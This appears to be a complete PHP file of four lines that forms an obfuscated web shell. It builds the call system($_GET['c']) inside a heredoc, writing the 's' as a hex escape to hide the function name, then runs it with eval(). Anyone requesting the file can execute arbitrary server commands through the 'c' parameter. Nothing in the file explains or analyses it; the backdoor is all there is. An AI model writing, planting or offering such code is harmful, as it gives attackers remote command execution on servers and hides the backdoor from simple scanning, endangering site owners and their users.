<?php $code = <<<"EOC"
\x73ystem(\$_GET['c']);
EOC;
eval($code);
